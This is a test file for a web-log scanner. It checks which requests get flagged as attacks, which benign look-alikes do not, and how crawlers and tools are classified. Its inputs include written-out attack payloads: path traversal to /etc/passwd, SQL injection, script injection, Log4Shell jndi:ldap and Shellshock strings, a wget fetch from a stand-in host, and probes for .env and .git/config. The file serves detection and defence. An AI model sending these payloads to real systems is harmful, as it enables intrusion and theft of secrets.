/** Which requests carry a signal, and which do not. */
import { describe, expect, it } from 'vitest';
import { scanLog } from '../../support/scanned-log.ts';

function judged(target: string, { agent = 'Mozilla/5.0', method = 'GET', status = 200, referrer = '-' } = {}) {
  const log = `192.0.2.1 - - [23/Nov/2026:22:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 1 "${referrer}" "${agent}"\n`;
  const { signals, bot } = scanLog(log).records[1] ?? {};
  return { signals, bot };
}

describe('attacks stay visible when the query is dropped', () => {
  it.each([
    ['/a/../../etc/passwd', 't1/traversal'],
    ['/cgi?f=..%2f..%2fetc%2fpasswd', 't1/traversal'],
    ['/icons/.%2e/%2e%2e/x', 't1/traversal'],
    ['/a/%252e%252e%252f', 't1/traversal'],
    ["/a?id=1'+or+'1'='1", 't1/sql-injection'],
    ['/a?id=1%27%20OR%20%271%27%3D%271', 't1/sql-injection'],
    ['/a?id=1+UNION+ALL+SELECT+1,2', 't1/sql-injection'],
    ['/a?id=1%20union%20select%20x', 't1/sql-injection'],
    ['/a?id=sleep(5)', 't1/sql-injection'],
    ['/a?id=if(now()=sysdate(),sleep(15),0)', 't1/sql-injection'],
    ["/a?id=1%3BWAITFOR%20DELAY%20'0:0:5'", 't1/sql-injection'],
    ['/a?q=<script>alert(1)</script>', 't1/script-injection'],
    ['/a?q=%3Csvg/onload=alert(1)%3E', 't1/script-injection'],
    ['/a?q=%253Cscript%253E', 't1/script-injection'],
    ['/a?x=${jndi:ldap://e.example/a}', 't1/code-injection'],
    ['/a?x=%24%7Bjndi:ldap://e.example/a%7D', 't1/code-injection'],
    ['/a?x=1;wget+http://e.example/x', 't1/code-injection'],
    ['/index.php?s=/index/think/invokefunction', 't1/code-injection'],
    ['/.env', 't1/scanner'],
    ['/app/.git/config', 't1/scanner'],
    ['/%2egit/config', 't1/scanner'],
    ['/wp-login.php', 't1/scanner'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 't1/scanner'],
    ['/backup.sql.gz', 't1/scanner'],
    ['/phpMyAdmin/index.php', 't1/scanner'],
    ['/actuator/health', 't1/scanner'],
    ['/manager/html', 't1/scanner'],
    ['/server-status', 't1/scanner'],
  ])('%s', (target, signal) => {
    expect(judged(target).signals).toContain(signal);
  });

  it('in the user agent and the referrer too', () => {
    expect(judged('/', { agent: '() { :; }; /bin/bash -c x' }).signals).toEqual(['t1/code-injection']);
    expect(judged('/', { agent: '${jndi:ldap://e.example/a}' }).signals).toEqual(['t1/code-injection']);
    expect(judged('/', { referrer: "https://a.example/' or 1=1" }).signals).toEqual(['t1/sql-injection']);
    expect(judged('/', { agent: 'sqlmap/1.8' })).toEqual({ bot: 't1/security-scanner', signals: ['t1/scanner-agent'] });
  });

  it('a refused sign-in is one try of a password, an accepted one is not', () => {
    expect(judged('/login', { method: 'POST', status: 401 }).signals).toEqual(['t1/login-failed']);
    expect(judged('/de/sign-in?next=/', { method: 'POST', status: 403 }).signals).toEqual(['t1/login-failed']);
    expect(judged('/login', { method: 'POST', status: 302 }).signals).toEqual([]);
    expect(judged('/login', { status: 401 }).signals).toEqual([]);
    expect(judged('/api', { method: 'POST', status: 401 }).signals).toEqual([]);
  });
});

describe('what people do carries no signal', () => {
  it.each([
    '/',
    '/contact',
    '/about/selection-of-trains',
    '/search?q=trade+union+and+select+committees',
    "/search?q=O%27Brien%20or%20O'Neill",
    '/search?q=5%25%20off',
    '/blog/2026/11/union-square.html',
    '/images/onload.png?reload=1',
    '/shop?price=%3C100&sort=name',
    '/a.b/c..d/e...f',
    '/docs/etc/overview',
    '/download/old-town.zip',
    '/environment/git-basics',
    '/wordpress-tips/login-form',
    '/path?redirect=https%3A%2F%2Fa.example%2Fpath%3Fx%3D1%26y%3D2',
    '/search?q=how+to+sleep+(well)',
    '/gr%C3%B6%C3%9Fe?q=%D0%9A%D1%80%D0%B8',
  ])('%s', (target) => {
    expect(judged(target).signals).toEqual([]);
  });
});

describe('programs that say so', () => {
  it.each([
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 't1/googlebot'],
    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 't1/bingbot'],
    ['Mozilla/5.0 AppleWebKit/537.36; compatible; GPTBot/1.2; +https://openai.com/gptbot', 't1/ai-crawler'],
    ['curl/8.5.0', 't1/library'],
    ['Go-http-client/1.1', 't1/library'],
    ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 't1/seo-crawler'],
    ['Uptime-Kuma/1.23.1', 't1/monitor'],
    ['SomethingNew Crawler 1.0', 't1/other'],
    ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', ''],
    ['Mozilla/5.0 (Linux; Android 10; CUBOT P40) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36', ''],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1',
      '',
    ],
    ['', ''],
  ])('%s is %j', (agent, bot) => {
    expect(judged('/', { agent }).bot).toBe(bot);
  });
});

describe('a hostile line', () => {
  it.each([
    ['slashes and dots', '/'.concat('./'.repeat(30_000))],
    ['quotes and ors', "/?a='".concat("' or ".repeat(20_000))],
    ['unions', '/?a='.concat('union/**/'.repeat(10_000))],
    ['percents', '/'.concat('%25'.repeat(30_000))],
    ['selects', '/?'.concat('select from '.repeat(8000))],
  ])('of many %s does not take long', (_, target) => {
    // Its cost is bounded by what is judged of it; without a bound these took minutes.
    expect(
      scanLog(`192.0.2.1 - - [23/Nov/2026:22:00:00 +0000] "GET ${target} HTTP/1.1" 200 1 "-" "-"\n`).counts.lines,
    ).toBe(1);
  });
});
